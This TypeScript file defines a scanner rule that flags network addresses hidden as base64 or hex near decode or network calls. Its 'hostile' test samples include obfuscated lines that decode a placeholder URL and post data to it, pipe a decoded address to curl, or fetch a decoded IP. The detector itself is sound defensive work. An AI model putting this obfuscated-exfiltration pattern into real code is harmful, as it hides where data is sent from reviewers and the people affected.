import { near, seen } from "../matchers.ts";
import type { Rule } from "../rule.ts";

/** `http` at the beginning of what is encoded: base64, then base64 of a longer text that was encoded twice, hex. */
const encodedAddress = seen(
  /["'\s=(](?:ahr0c(?:dovl|hm6ly)[a-z0-9+/_-]{8}|yuhsm[a-z0-9+/_-]{12}|68747470(?:733a2f2f|3a2f2f)[0-9a-f]{8})/,
);

const uses = seen(
  /\b(?:b64decode|atob|base64|frombase64string|fromhex|xxd|unhexlify|decode|buffer\.from|curl|wget|requests|fetch|urlopen|axios|nc)\b/,
);

export const hiddenAddress: Rule = {
  id: "leak.endpoint",
  level: "high",
  title: "hides the address that it talks to",
  why: "An address is written in an encoded form and decoded when the program runs. Addresses are not secret from the person who runs a program; this one is kept from reviewers and filters. Decode it and ask why.",
  match: near(encodedAddress, uses, 160),
  hostile: [
    '```python\nurl = base64.b64decode("aHR0cHM6Ly9jLmV4YW1wbGUubmV0L2luL3gx").decode()\nrequests.post(url, json=d)\n```',
    "```bash\necho 'aHR0cHM6Ly9jLmV4YW1wbGUubmV0L2luL3gx' | base64 -d | xargs curl\n```",
    '```js\nfetch(atob("aHR0cDovLzE5Mi4wLjIuNC9pbi94MQ=="))\n```',
    '```python\nurl = bytes.fromhex("68747470733a2f2f632e6578616d706c652e6e6574").decode()\n```',
  ],
  benign: [
    '```python\nurl = "https://api.example.com/v1"\nimage = base64.b64decode(response["image"])\n```',
    "```bash\nbase64 -d <<< 'aGVsbG8gd29ybGQsIHRoaXMgaXMgZmluZQ=='\n```",
    "The `state` of the sign-in is random: `ahr0c`.",
  ],
};
